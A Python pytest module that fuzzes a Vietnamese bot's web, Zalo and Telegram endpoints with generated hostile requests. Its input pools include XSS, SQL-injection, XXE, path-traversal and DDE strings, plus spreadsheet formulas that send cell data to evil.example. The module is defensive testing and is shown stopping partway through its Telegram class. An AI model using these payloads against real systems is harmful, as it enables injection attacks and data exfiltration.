"""Hostile input over real HTTP: 10,000 generated messages through each channel (web, Zalo, Telegram).

Each flood test starts our real aiohttp server in-process with the local fake Telegram and Zalo
(tests/test_channels.py), stores one real registration per channel, then floods one channel with deterministic
hostile requests from other people: Unicode edge cases and control characters, 100 KB texts, markup, SQL and
spreadsheet formulas, forged and replayed webhooks, wrong JSON types and broken bodies. Then it checks that

1. no request got a 5xx, and each got the status its kind calls for;
2. nothing was logged at ERROR or with a traceback (a handler on the root logger);
3. the stored leads are byte-for-byte unchanged, and the leads made during the flood read back;
4. every accepted webhook event was processed (the inbox drains), forged ones changed nothing and a replayed one
   counted once; every web request got 200 with a `replies` list or a 4xx with an `error` in Vietnamese.

Each flood runs on SQLite and, with PG_MESSAGES generated requests instead of MESSAGES, on PostgreSQL (a database
with rules of its own: no NUL in text, JSON read by its own parser); so do the known-bug cases that store something.

Inputs that once broke the server are listed in FIXED_BUGS; test_known_bug keeps each as a regression test and
the flood sends them too. A new one goes into KNOWN_BUGS (a strict xfail, left out of the flood) until fixed.
"""

from __future__ import annotations

import asyncio
import gc
import hashlib
import itertools
import json
import logging
import os
import random
import re
import time
import traceback
import unicodedata
from collections import Counter
from collections.abc import Callable, Collection, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from bot.messages import ConversationKey
from tests.conftest import Store
from tests.fakes import zalo_event
from tests.test_channels import APP_ID, INTERVIEW, REGISTER, TG_SECRET, Env, run, running, sign

SEED = int(os.environ.get("HOSTILE_SEED", "20251108"))
MESSAGES = int(os.environ.get("HOSTILE_MESSAGES", "10000"))  # generated requests per channel, besides scripted ones
# On PostgreSQL a smaller flood of the same kinds (SQLite's run covers the text handling; this one the storage).
PG_MESSAGES = int(os.environ.get("HOSTILE_PG_MESSAGES", "600"))
USERS = 200  # distinct people per channel, so that no one person's turns pile up
IN_FLIGHT = 24  # requests on the wire at a time
BIG_TEXTS = 12  # 100 KB messages per channel: a few, they are slow
OVERSIZED = 3  # bodies over the server's limit per channel: 413
REPLAYERS = 20  # people whose one message is delivered several times
MAX_BODY_KB = 256  # so that a 100 KB text reaches the engine
SETTINGS: dict[str, Any] = {"web_max_body_kb": MAX_BODY_KB, "web_rate_per_minute": 1_000_000}
WEB, ZALO, TELEGRAM = "/api/chat", "/webhooks/zalo", "/webhooks/telegram"

# Inputs that break the server today (see test_known_bug). The flood leaves these out until the name is deleted.
# Found by this test and fixed; their cases below stay as regression tests.
FIXED_BUGS: dict[str, str] = {
    "lone_surrogate": "a lone surrogate (JSON '\\ud800') in a text cannot be stored: UnicodeEncodeError in SQLite "
    "(web 500 from record_miss; Zalo turn dropped in the worker; Telegram 500 when the update is claimed, and every "
    "other update claimed in the same batch gets a 500 too)",
    "huge_json_int": "an integer of more than 4,300 digits in a JSON body: json.loads raises ValueError, which "
    "incoming_from_json (web) and ZaloWebhook.handle (before the signature check) do not catch: 500",
    "deep_json": "JSON nested 50,000 deep: RecursionError in json.loads, not caught by the Zalo webhook (before "
    "the signature check) or the Telegram webhook: 500",
    "zalo_non_object": "a signed Zalo event whose 'message' or 'sender' is not an object: AttributeError in "
    "_event_id (500) or in ZaloProcessor.process (turn dropped)",
    "zalo_huge_timestamp": "a signed Zalo event with a 400-digit timestamp: OverflowError in _fresh: 500",
    "telegram_date_overflow": "a Telegram update whose message date is 10**20: OverflowError in Update.de_json, "
    "which the webhook does not catch: 500",
    "telegram_non_string": "a Telegram update whose text or callback data is not a string passes the webhook's "
    "check, then the turn crashes (AttributeError in StaffCommands.is_command or DialogEngine._button)",
    "unicode_digit_payload": "a button 'place:²', or 'ans:²' at the revenue question (str.isdigit() is true for "
    "'²' but int() refuses it), or 'place:' with 5,000 digits: ValueError in DialogEngine._place_chosen or "
    "_button_answer (web 500)",
    "web_413_not_json": "a web body over web_max_body_kb gets aiohttp's plain-text English 413, not a JSON "
    "'error' in Vietnamese (the widget then says 'Mất kết nối')",
    "nul_character": "a NUL character ('\\u0000') in a text, a name or a facility, or in a signed Zalo event's "
    "message or sender id: PostgreSQL refuses it in a text column (psycopg.DataError): web 500, a webhook turn "
    "failing again and again in the worker, or the Zalo webhook answering 500 to every redelivery",
}
KNOWN_BUGS: dict[str, str] = {}  # none open

# --- what people type ------------------------------------------------------------------------------

VIETNAMESE = [
    "kiem tra", "xin chào", "Xin chao", "đăng ký", "dang ky", "hkd", "hộ kinh doanh", "làm nước mắm",
    "xa vinh thuy quang tri", "xã Vĩnh Thủy, Quảng Trị", "máy móc", "may moc", "hỗ trợ bao nhiêu tiền?", "menu",
    "bo qua", "xac nhan", "dong y", "không", "có", "1", "2", "7", "gặp cán bộ", "0912 345 678", "Nguyễn Thị Lan",
    "tôi muốn vay vốn mua máy sấy", "Cơ sở nước mắm Lan", "xoá dữ liệu của tôi", "quay lại", "sửa", "bắt đầu lại",
]  # fmt: skip
ACCENTED = [t for t in VIETNAMESE if not t.isascii()]
CONTROL = [
    "\x00", "\x00" * 8, "\x1b[31m", "\x1b]0;pwned\x07", "\x07", "\x08" * 5, "\r\n", "\r", "\t", "\x0b", "\x0c",
    "\x7f", "\x85", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff", "\U0010ffff",
]  # fmt: skip
INVISIBLE = [
    "\u202e", "\u202d", "\u202c", "\u2066", "\u2069", "\u200f", "\u200e", "\u200b", "\u200c", "\u200d", "\u2060",
    "\u00ad", "\u034f", "\u180e", "\u3000",
]  # fmt: skip
EMOJI = ["👍🏽", "👩🏾‍🌾", "🧑🏻‍🔧", "🇻🇳", "❤️", "🏳️‍🌈", "👨‍👩‍👧‍👦", "🤷🏿‍♀️", "🙏🏼", "🐟"]
DIGITS = ["０９１２ ３４５ ６７８", "１", "７", "٠٩١٢٣٤٥٦٧٨", "०९१२३४५६७८", "①②③", "𝟎𝟗𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖", "¹²³", "Ⅻ"]
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)", "<b>đậm</b>", "&lt;&amp;&#x3C;", "{{7*7}}", "{% for x in range(9**9) %}", "${7*7}", "<!--",
    "]]>", '"><iframe src=//evil.example>', "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
]  # fmt: skip
SQL = [
    "'; DROP TABLE leads; --", "1 OR 1=1", "' OR '1'='1", '" OR ""="', "1; DELETE FROM leads",
    "' UNION SELECT * FROM staff --", "%' AND 1=0 UNION SELECT sql FROM sqlite_master --",
    "Robert'); DROP TABLE leads;--", "'); ATTACH DATABASE '/tmp/x.db' AS x; --",
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "=1+1",
    "=cmd|'/c calc'!A1", "\t=1+1", "\r=1+1", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', "＝1+1",
]  # fmt: skip
ODD = [
    "%s%s%s%n", "{0}", "{user}", "%(name)s", "\\N{NULL}", "\\u0000", "../../../../etc/passwd", "..\\..\\boot.ini",
    "file:///etc/passwd", "http://127.0.0.1:8080/healthz", "/start", "/leads", "/export", "/stats",
    "#kc:menu:register", "menu:register", "0", "-1", "99999999999999999999999", "1e308", "NaN", "null", "[]", "",
]  # fmt: skip
REAL_PAYLOADS = [
    "menu:eligibility", "menu:register", "cmd:menu", "cmd:back", "cmd:edit", "cmd:restart", "cmd:help", "cmd:staff",
    "cmd:delete", "cmd:my_data", "ans:yes", "ans:no", "ans:skip", "ans:unknown", "yes:", "no:", "place:19405",
]  # fmt: skip
OTHER_CONTENT_TYPES = [
    "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
    "text/html", "application/jsonp", "application/octet-stream", "text/json",
]  # fmt: skip
ZALO_EVENTS = [
    "follow", "unfollow", "user_send_image", "user_send_sticker", "user_send_location", "user_send_file",
    "user_seen_message", "user_received_message", "user_reacted_message", "oa_send_text", "", "<b>x</b>",
]  # fmt: skip
TELEGRAM_COMMANDS = [
    "/start", "/leads", "/stats", "/export", "/export csv", "/leads ' OR 1=1", "/start@khuyencong_test_bot",
    "/help", "/", "//", "/export ../../etc/passwd", "/leads " + "x" * 5000, "/stats\x00",
]  # fmt: skip
PAYLOAD_KINDS = ["cmd", "menu", "ans", "place", "edit", "faq", "sector", "yes", "no", "", "zzz"]
ODD_VALUES: list[Any] = [5, -1, 0, 1.5, 1e308, True, False, None, [], ["xin chao"], {}, {"text": "xin chao"}]
FORMULA = re.compile(r"\s*[=+\-@]")  # what a spreadsheet may read as a formula
VIETNAMESE_LETTERS = set("ăâđêôơưáàảãạấầẩẫậắằẳẵặéèẻẽẹếềểễệíìỉĩịóòỏõọốồổỗộớờởỡợúùủũụứừửữựýỳỷỹỵ")


def pick(rng: random.Random, pool: list[str]) -> Callable[[], str]:
    """A fragment maker that draws from a fixed pool."""
    return lambda: rng.choice(pool)


def stacked_marks(rng: random.Random) -> str:
    """A letter under fifty combining marks."""
    return rng.choice("aeouyAĐ") + "".join(chr(rng.randint(0x300, 0x36F)) for _ in range(50))


def decomposed(rng: random.Random) -> str:
    """Vietnamese with its diacritics decomposed (NFD), as some keyboards send it."""
    return unicodedata.normalize("NFD", rng.choice(ACCENTED))


def code_points(rng: random.Random) -> str:
    """Up to forty code points from anywhere but the surrogates: astral, private use, unassigned."""
    ranges = [(0x20, 0x7E), (0x80, 0x2FFF), (0xE000, 0xFFFF), (0x10000, 0x10FFFF)]
    return "".join(chr(rng.randint(*rng.choice(ranges))) for _ in range(rng.randint(1, 40)))


def near_limit(rng: random.Random) -> str:
    """A text just under, at or over the engine's 4,000 characters."""
    return (rng.choice(VIETNAMESE) + " ") * 800 if rng.random() < 0.2 else "a" * rng.choice([3999, 4000, 4001, 4002])


def lone_surrogates(rng: random.Random) -> str:
    """Unpaired UTF-16 halves, which JSON can carry as '\\ud800' escapes."""
    return "".join(chr(rng.choice([0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xD83D])) + "a" for _ in range(rng.randint(1, 3)))


def hostile_text(rng: random.Random) -> str:
    """One to four fragments of hostile (or plain) text, joined."""
    makers = [pick(rng, VIETNAMESE)] * 6 + [
        *(pick(rng, pool) for pool in (CONTROL, INVISIBLE, EMOJI, DIGITS, MARKUP, SQL, FORMULAS, ODD)),
        lambda: stacked_marks(rng),
        lambda: decomposed(rng),
        lambda: decomposed(rng),
        lambda: code_points(rng),
    ]
    if rng.random() < 0.004:
        makers = [lambda: near_limit(rng)]
    elif "lone_surrogate" not in KNOWN_BUGS and rng.random() < 0.02:
        makers = [lambda: lone_surrogates(rng)]
    count = rng.choices([1, 2, 3, 4], [4, 3, 2, 1])[0]
    return rng.choice(["", " ", "\n", "\u200b"]).join(rng.choice(makers)() for _ in range(count))


def hostile_payload(rng: random.Random) -> str:
    """What a tampered button may carry: real payloads, unknown kinds, junk and very long values."""
    if rng.random() < 0.3:
        return rng.choice(REAL_PAYLOADS)
    kind = rng.choice(PAYLOAD_KINDS)
    value = rng.choice(
        [
            hostile_text(rng),
            "x" * rng.choice([64, 65, 1000, 10_000]),
            str(rng.randint(-(10**6), 10**12)),
            rng.choice(["eligibility.legal_form", "registration.name", "..", "nope.nope", "registration."]),
            rng.choice(["²", "٣", "9" * 5000, "0" * 50]),
        ]
    )
    if "unicode_digit_payload" in KNOWN_BUGS and value.isdigit() and not (value.isascii() and len(value) < 4000):
        value = "x" + value
    return f"{kind}:{value}" if rng.random() < 0.9 else value


def big_text(rng: random.Random) -> str:
    """About 100,000 characters of mixed text (100-150 KB of UTF-8)."""
    parts: list[str] = []
    while sum(map(len, parts)) < 100_000:
        parts.append(rng.choice([rng.choice(VIETNAMESE), rng.choice(SQL), rng.choice(MARKUP), "x" * 500]))
    return " ".join(parts)


def dumps(value: Any, rng: random.Random) -> bytes:
    """JSON as clients send it: escaped ASCII or raw UTF-8 (escaped when it holds a lone surrogate)."""
    if rng.random() < 0.5:
        try:
            return json.dumps(value, ensure_ascii=False).encode()
        except UnicodeEncodeError:
            pass
    return json.dumps(value).encode()


def fullwidth(text: str) -> str:
    """Digits as full-width forms ('０９１２')."""
    return text.translate({ord(d): 0xFF10 + int(d) for d in "0123456789"})


def signup_script(name: str, phone: str, facility: str, note: str) -> list[str]:
    """A whole interview and registration."""
    return [*INTERVIEW, "dang ky", "dong y", name, phone, facility, note, "xac nhan"]


def real_script(phone: str) -> list[str]:
    """The plain interview and registration of tests/test_channels.py, with its own phone."""
    return [*INTERVIEW, "dang ky", *[phone if t == "0912 345 678" else t for t in REGISTER]]


def hostile_signups(channel: int) -> list[tuple[list[str], str, str]]:
    """Registrations whose answers are hostile yet valid: (script, the name as stored, the phone as stored)."""
    numbers = [f"3{channel}{k}00{k}" for k in range(1, 4)]  # six digits after 0912, distinct per channel
    answers = [
        ("Lan'); DROP TABLE leads;--", f"0912 {numbers[0]}", "Cơ sở 1 OR 1=1", "<script>alert(1)</script>"),
        (
            unicodedata.normalize("NFD", "Nguyễn Thị Lan"),
            fullwidth(f"0912 {numbers[1]}"),
            unicodedata.normalize("NFD", "Cơ sở nước mắm Lan"),
            '"; DELETE FROM leads WHERE 1=1; --',
        ),
        (
            "Lan\u200d\u202e Trần 👩🏾‍🌾",
            f"+84 912 {numbers[2]}",
            "Hộ %s%s%n ../../etc/passwd \x00",
            'Ghi chú: =HYPERLINK("http://evil.example","x") @SUM(1) -2+3',
        ),
    ]
    return [
        (signup_script(*a), " ".join(a[0].split()), "+84912" + number)
        for a, number in zip(answers, numbers, strict=True)
    ]


# --- the requests ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Shot:
    """One request of the flood and the statuses it may get."""

    kind: str
    path: str
    body: bytes
    headers: dict[str, str]
    expect: frozenset[int]


Action = tuple[Shot, ...]  # sent one after the other (one person's script keeps its order)


class Flood:
    """Deterministic hostile requests for one channel; each subclass says how its kinds of request are built."""

    channel = ""
    path = ""

    def __init__(self, seed: int, first_id: int = 10_000_000) -> None:
        self.rng = random.Random(seed)
        self.ids = itertools.count(first_id)  # update ids and message ids: a repeated one is a replay
        self.accepted: list[Shot] = []  # requests that were taken, for replaying
        self.replayers: list[str] = []
        self.reference = ""  # sends the replayers' message once
        self.forged: list[str] = []  # people whose every request must be refused
        self.signups: list[tuple[str, str, str]] = []  # (user, stored name, stored phone)

    def kinds(self) -> dict[str, tuple[int, Callable[[], Shot]]]:
        """Weight and maker of each kind of request."""
        raise NotImplementedError

    def big(self) -> Shot:
        """A 100 KB text the engine gets (and politely refuses)."""
        raise NotImplementedError

    def oversized(self) -> Shot:
        """A body over the server's limit."""
        raise NotImplementedError

    def say(self, user: str, text: str) -> Shot:
        """A valid text message from one person."""
        raise NotImplementedError

    def build(self, messages: int = MESSAGES) -> list[Action]:
        """Every action of the flood, shuffled; the scripted ones keep their inner order."""
        kinds = self.kinds()
        names = list(kinds)
        chosen = self.rng.choices(names, [kinds[n][0] for n in names], k=messages)
        actions: list[Action] = [(kinds[name][1](),) for name in chosen]
        actions += [(self.big(),) for _ in range(BIG_TEXTS)] + [(self.oversized(),) for _ in range(OVERSIZED)]
        actions += self.replays()
        for index, (script, name, phone) in enumerate(hostile_signups(list(CHANNELS).index(self.channel))):
            user = self.signup_user(index)
            self.signups.append((user, name, phone))
            actions.append(tuple(self.say(user, text) for text in script))
        self.rng.shuffle(actions)
        return actions

    def replays(self) -> list[Action]:
        """Each replayer's one message, delivered two to five times; the reference person sends it once."""
        actions: list[Action] = [(self.say(self.reference, "xin chao"),)]
        for user in self.replayers:
            shot = self.say(user, "xin chao")
            actions += [(shot,)] * self.rng.randint(2, 5)
        return actions

    def replay(self) -> Shot:
        """An earlier accepted request, sent again."""
        return self.rng.choice(self.accepted) if self.accepted else self.say(self.user(), hostile_text(self.rng))

    def user(self) -> str:
        """One of the flood's people."""
        raise NotImplementedError

    def signup_user(self, index: int) -> str:
        """The person of a hostile registration."""
        raise NotImplementedError

    def shot(self, kind: str, body: bytes, headers: dict[str, str], *expect: int) -> Shot:
        """A request to this channel's path."""
        made = Shot(kind, self.path, body, headers, frozenset(expect))
        if expect == (200,):
            self.accepted.append(made)
        return made


class WebFlood(Flood):
    """POST /api/chat: anyone may call it, so every refusal is a polite 4xx."""

    channel, path = "web", WEB

    def __init__(self, seed: int, first_id: int = 10_000_000) -> None:
        super().__init__(seed, first_id)
        self.users = [f"hostile_web_{i:05d}" for i in range(USERS)]
        self.reference = "hostile_web_reference"

    def user(self) -> str:
        return self.rng.choice(self.users)

    def signup_user(self, index: int) -> str:
        return f"hostile_web_signup_{index}"

    def post(self, kind: str, value: Any, *expect: int, ctype: str = "application/json") -> Shot:
        """A request with a JSON (or raw) body."""
        body = value if isinstance(value, bytes) else dumps(value, self.rng)
        return self.shot(kind, body, {"Content-Type": ctype}, *expect)

    def say(self, user: str, text: str) -> Shot:
        return self.post("text", {"user": user, "text": text}, 200)

    def kinds(self) -> dict[str, tuple[int, Callable[[], Shot]]]:
        rng = self.rng
        return {
            "text": (58, lambda: self.say(self.user(), hostile_text(rng))),
            "button": (10, lambda: self.post("button", {"user": self.user(), "button": hostile_payload(rng)}, 200)),
            "wrong type": (9, self.wrong_type),
            "not an object": (3, self.not_object),
            "broken JSON": (6, self.broken),
            "odd encoding": (2, self.odd_encoding),
            "content type": (4, self.content_type),
            "unknown field": (2, self.unknown_field),
        }

    def wrong_type(self) -> Shot:
        """Text, button or user of the wrong type, both text and button, or neither."""
        rng, user, odd = self.rng, self.user(), self.rng.choice(ODD_VALUES)
        odd_users: list[Any] = [12345, None, [], {}, True, "short", "x" * 101, "người_dùng_000001", "a b c d e f g h"]
        odd_user = rng.choice(odd_users)
        bodies: list[dict[str, Any]] = [
            {"user": user, "text": odd},
            {"user": user, "button": odd},
            {"user": user, "text": hostile_text(rng), "button": hostile_payload(rng)},
            {"user": user},
            {"text": hostile_text(rng)},
            {"user": odd_user, "text": hostile_text(rng)},
            {"user": odd_user, "button": "menu:register"},
        ]
        return self.post("wrong type", rng.choice(bodies), 400)

    def not_object(self) -> Shot:
        """Valid JSON that is not an object."""
        value = self.rng.choice(
            [[], ["user", "text"], "xin chao", 42, None, True, [{"user": self.user(), "text": "hi"}]]
        )
        return self.post("not an object", value, 400)

    def broken(self) -> Shot:
        """Bodies that are not JSON at all, or JSON the API cannot take."""
        user = self.user().encode()
        bodies = [
            b'{"user": "' + user + b'", "text": "abc',
            b"{'user': 'x', 'text': 'y'}",
            b'{"user": "' + user + b'", "text": "a",}',
            b"",
            b" ",
            b"\x00",
            b"\xff\xfe\xfd",
            b'{"user": "' + user + b'", "text": "\xc3\x28"}',
            b'{"user": "' + user + b'", "text": NaN}',
            b'{"user": "' + user + b'", "text": Infinity}',
            b"[" * 100_000,
            b'{"a":' * 30_000 + b"1" + b"}" * 30_000,
        ]
        if "huge_json_int" not in KNOWN_BUGS:
            bodies.append(b'{"user": "' + user + b'", "text": ' + b"9" * 5000 + b"}")
        return self.post("broken JSON", self.rng.choice(bodies), 400)

    def odd_encoding(self) -> Shot:
        """Valid requests in unusual dress: duplicate keys, a BOM, UTF-16, padding."""
        message = {"user": self.user(), "text": hostile_text(self.rng)}
        raw = json.dumps(message)
        bodies = [
            ("{" + f'"text": 5, {raw[1:]}').encode(),
            b"\xef\xbb\xbf" + raw.encode(),
            raw.encode("utf-16"),
            b" \n\t" + raw.encode() + b"\n\n",
        ]
        return self.post("odd encoding", self.rng.choice(bodies), 200)

    def content_type(self) -> Shot:
        """A valid body under another content type."""
        ctype = self.rng.choice(OTHER_CONTENT_TYPES)
        return self.post("content type", {"user": self.user(), "text": hostile_text(self.rng)}, 415, ctype=ctype)

    def unknown_field(self) -> Shot:
        """A message with a field the API does not know."""
        extra = self.rng.choice([("admin", True), ("__proto__", {"admin": True}), ("", 1), ("channel", "zalo")])
        return self.post("unknown field", {"user": self.user(), "text": "xin chao", extra[0]: extra[1]}, 400)

    def big(self) -> Shot:
        return self.post("big text", {"user": self.user(), "text": big_text(self.rng)}, 200)

    def oversized(self) -> Shot:
        return self.post("oversized", {"user": self.user(), "text": "x" * (MAX_BODY_KB * 1024 + 10)}, 413)

    def replays(self) -> list[Action]:
        return []  # the web has no platform that redelivers


class ZaloFlood(Flood):
    """POST /webhooks/zalo: signed events, forged and stale ones, replays, broken bodies."""

    channel, path = "zalo", ZALO

    def __init__(self, seed: int, first_id: int = 10_000_000) -> None:
        super().__init__(seed, first_id)
        self.users = [str(6_100_000_000_000_000_000 + i) for i in range(USERS)]
        self.forged = [str(6_900_000_000_000_000_000 + i) for i in range(USERS)]
        self.replayers = [str(6_800_000_000_000_000_000 + i) for i in range(REPLAYERS)]
        self.reference = str(6_800_000_000_000_000_999)

    def user(self) -> str:
        return self.rng.choice(self.users)

    def signup_user(self, index: int) -> str:
        return str(6_700_000_000_000_000_000 + index)

    def event(self, user: str, text: str | None, name: str = "user_send_text") -> dict[str, Any]:
        """An event as Zalo shapes it, with a fresh id."""
        return zalo_event(text, user=user, msg_id=f"hostile-{next(self.ids)}", event_name=name)

    def post(
        self,
        kind: str,
        event: Any,
        *expect: int,
        signature: str | None = "auto",
        ctype: str = "application/json",
        raw: bytes | None = None,
    ) -> Shot:
        """A request carrying an event, signed over its exact bytes unless told otherwise."""
        body = raw if raw is not None else dumps(event, self.rng)
        headers = {"Content-Type": ctype}
        if signature == "auto":
            headers["X-ZEvent-Signature"] = sign(body, str(event.get("timestamp", "")))
        elif signature is not None:
            headers["X-ZEvent-Signature"] = signature
        return self.shot(kind, body, headers, *expect)

    def say(self, user: str, text: str) -> Shot:
        return self.post("text", self.event(user, text), 200)

    def kinds(self) -> dict[str, tuple[int, Callable[[], Shot]]]:
        rng = self.rng
        return {
            "text": (50, lambda: self.say(self.user(), hostile_text(rng))),
            "button": (6, lambda: self.say(self.user(), "#kc:" + hostile_payload(rng))),
            "other event": (6, self.other_event),
            "wrong type": (6, self.wrong_type),
            "replay": (5, self.replay),
            "forged": (9, self.forged_event),
            "stale": (4, self.stale),
            "broken JSON": (5, self.broken),
            "probe": (1, self.probe),
            "content type": (3, self.content_type),
        }

    def other_event(self) -> Shot:
        """Follows, unfollows, media, receipts and unknown event names."""
        rng, user = self.rng, self.user()
        name = rng.choice(ZALO_EVENTS)
        event = self.event(user, None if name != "user_seen_message" else hostile_text(rng), name)
        if rng.random() < 0.2:
            event.pop("message", None)
        return self.post("other event", event, 200)

    def wrong_type(self) -> Shot:
        """Signed events whose fields have unexpected types or values."""
        rng, user = self.rng, self.user()
        event = self.event(user, hostile_text(rng))
        odd = rng.choice(ODD_VALUES)
        change = rng.randrange(7)
        if change == 0:
            event["message"]["text"] = odd
        elif change == 1:
            event["message"]["msg_id"] = rng.choice([12345, ["a"], {"a": 1}, "", None, 0, True, "x" * 2000])
        elif change == 2:
            ids: list[Any] = [int(user), "", None, "<script>alert(1)</script>", "'; DROP TABLE leads; --", "x" * 1000]
            event["sender"] = {"id": rng.choice([*ids, 1.5, True, ["a"], {"id": 1}])}
        elif change == 3:
            event["sender"] = {}
        elif change == 4:
            event["event_name"] = rng.choice([None, 123, ["user_send_text"], {"a": 1}, "USER_SEND_TEXT"])
        elif change == 5:
            event.update(app_id=rng.choice([int(APP_ID), None, "other"]), recipient=odd, user_id_by_app=odd)
        elif "zalo_non_object" not in KNOWN_BUGS:
            event[rng.choice(["message", "sender", "follower"])] = rng.choice(["hi", ["hi"], 5, True])
        return self.post("wrong type", event, 200)

    def forged_event(self) -> Shot:
        """An event from a forged-only person whose signature does not match: 401, and nothing happens."""
        rng = self.rng
        event = self.event(rng.choice(self.forged), hostile_text(rng))
        body = dumps(event, rng)
        stamp = str(event["timestamp"])
        wrong_secret = hashlib.sha256(APP_ID.encode() + body + stamp.encode() + b"not-the-secret").hexdigest()
        good = sign(body, stamp)
        signatures = [None, "", "mac=", "mac=" + "0" * 64, "mac=" + rng.randbytes(32).hex(), "x" * 4000]
        signatures += [sign(body + b" ", stamp), sign(body, str(int(stamp) + 1)), good[:-1], "sha256=" + good[4:]]
        signature = rng.choice([*signatures, "mac=" + wrong_secret])
        return self.post("forged", event, 401, signature=signature, raw=body)

    def stale(self) -> Shot:
        """A correctly signed event from a forged-only person, too old, from the future or with a junk timestamp."""
        rng = self.rng
        event = self.event(rng.choice(self.forged), hostile_text(rng))
        now = int(time.time() * 1000)
        stamps: list[Any] = [now - 3 * 86_400_000, now + 3_600_000, "abc", "", None, -1, "1.7e12", 1.7e12, 0, True]
        if "zalo_huge_timestamp" not in KNOWN_BUGS:
            stamps.append("1" + "0" * 400)
        stamp = rng.choice([*stamps, "missing"])
        if stamp == "missing":
            del event["timestamp"]
        else:
            event["timestamp"] = stamp
        return self.post("stale", event, 403)

    def broken(self) -> Shot:
        """Bodies that are not a JSON object, with or without a signature header."""
        bodies = [b'{"app_id": "1', b"[]", b'"x"', b"null", b"42", b"\xff\xfe", b"{'a': 1}", b"  [1]", b"\x00"]
        bodies += [b"", b'{"a": NaN']
        if "deep_json" not in KNOWN_BUGS:
            bodies.append(b"[" * 50_000)
        if "huge_json_int" not in KNOWN_BUGS:
            bodies.append(b'{"timestamp": ' + b"9" * 5000 + b"}")
        body = self.rng.choice(bodies)
        return self.post("broken JSON", None, 400, signature="mac=" + "0" * 64, raw=body)

    def probe(self) -> Shot:
        """What Zalo's console sends when the URL is saved: an empty body or {} without a signature."""
        return self.post("probe", None, 200, signature=None, raw=self.rng.choice([b"", b"{}", b" {} "]))

    def content_type(self) -> Shot:
        """A signed event under another content type."""
        ctype = self.rng.choice(OTHER_CONTENT_TYPES)
        return self.post("content type", self.event(self.user(), hostile_text(self.rng)), 415, ctype=ctype)

    def big(self) -> Shot:
        return self.say(self.user(), big_text(self.rng))

    def oversized(self) -> Shot:
        event = self.event(self.user(), "x" * (MAX_BODY_KB * 1024 + 10))
        return self.post("oversized", event, 413)


class TelegramFlood(Flood):
    """POST /webhooks/telegram: updates with and without the secret, replays, odd shapes."""

    channel, path = "telegram", TELEGRAM

    def __init__(self, seed: int, first_id: int = 10_000_000) -> None:
        super().__init__(seed, first_id)
        self.users = [str(700_000_000 + i) for i in range(USERS)]
        self.forged = [str(990_000_000 + i) for i in range(USERS)]
        self.replayers = [str(880_000_000 + i) for i in range(REPLAYERS)]
        self.reference = "880999999"

    def user(self) -> str:
        return self.rng.choice(self.users)

    def signup_user(self, index: int) -> str:
        return str(660_000_000 + index)

    def message(self, user: str, text: str | None = None, **extra: Any) -> dict[str, Any]:
        """A private-chat message update with a fresh update id."""
        uid = next(self.ids)
        chat = int(user)
        message: dict[str, Any] = {
            "message_id": uid,
            "date": int(time.time()),
            "chat": {"id": chat, "type": "private"},
            "from": {"id": chat, "is_bot": False, "first_name": "Lan"},
        }
        if text is not None:
            message["text"] = text
        message.update(extra)
        return {"update_id": uid, "message": message}

    def tap(self, user: str, data: Any) -> dict[str, Any]:
        """A button press under an earlier message."""
        uid, chat = next(self.ids), int(user)
        sender = {"id": chat, "is_bot": False, "first_name": "Lan"}
        message = {"message_id": 1, "date": int(time.time()), "chat": {"id": chat, "type": "private"}, "text": "…"}
        query = {"id": f"cq{uid}", "chat_instance": "ci", "data": data, "from": sender, "message": message}
        return {"update_id": uid, "callback_query": query}

    def post(
        self, kind: str, update: Any, *expect: int, secret: str | None = TG_SECRET, ctype: str = "application/json"
    ) -> Shot:
        """A request carrying an update (raw bytes are sent as they are)."""
        body = update if isinstance(update, bytes) else dumps(update, self.rng)
        headers = {"Content-Type": ctype}
        if secret is not None:
            headers["X-Telegram-Bot-Api-Secret-Token"] = secret
        return self.shot(kind, body, headers, *expect)

    def say(self, user: str, text: str) -> Shot:
        return self.post("text", self.message(user, text), 200)

    def kinds(self) -> dict[str, tuple[int, Callable[[], Shot]]]:
        rng = self.rng
        return {
            # A processed update costs about five times a refused one (python-telegram-bot, httpx): half of each.
            "text": (34, lambda: self.say(self.user(), hostile_text(rng))),
            "tap": (6, lambda: self.post("tap", self.tap(self.user(), hostile_payload(rng)), 200)),
            "other update": (5, self.other_update),
            "command": (2, self.command),
            "wrong type": (6, self.wrong_type),
            "replay": (8, self.replay),
            "forged": (16, self.forged_update),
            "content type": (7, self.content_type),
            "broken JSON": (16, self.broken),
        }

    def other_update(self) -> Shot:
        """Media, edits, channel posts, inline queries, group chats, missing senders, unknown update types."""
        rng, user = self.rng, self.user()
        size = {"file_id": "f", "file_unique_id": "u", "width": 1, "height": 1}
        sticker = {**size, "is_animated": False, "is_video": False, "type": "regular"}
        update = self.message(user)
        message = update["message"]
        change = rng.randrange(10)
        if change == 0:
            message["sticker"] = sticker
        elif change == 1:
            message.update(photo=[size], caption=hostile_text(rng))
        elif change == 2:
            message["location"] = {"latitude": 16.8, "longitude": 107.1}
        elif change == 3:
            message["contact"] = {"phone_number": "0912345678", "first_name": hostile_text(rng)}
        elif change == 4:
            update["edited_message"] = dict(update.pop("message"), text=hostile_text(rng), edit_date=1)
        elif change == 5:
            message.update(chat={"id": -1000 - int(user) % 1000, "type": "group", "title": "x"}, text="kiem tra")
        elif change == 6:
            del message["from"]
            message["text"] = hostile_text(rng)
        elif change == 7:
            query = {"id": "iq", "from": message["from"], "query": hostile_text(rng), "offset": ""}
            update = {"update_id": update["update_id"], "inline_query": query}
        elif change == 8:
            update = {"update_id": update["update_id"], "unknown_kind": {"a": [1, 2, {"b": None}]}}
        else:
            update = self.tap(user, hostile_payload(rng))
            del update["callback_query"]["message"]
        return self.post("other update", update, 200)

    def command(self) -> Shot:
        """Staff commands and others, from people who are not staff."""
        text = self.rng.choice(TELEGRAM_COMMANDS)
        return self.post("command", self.message(self.user(), text), 200)

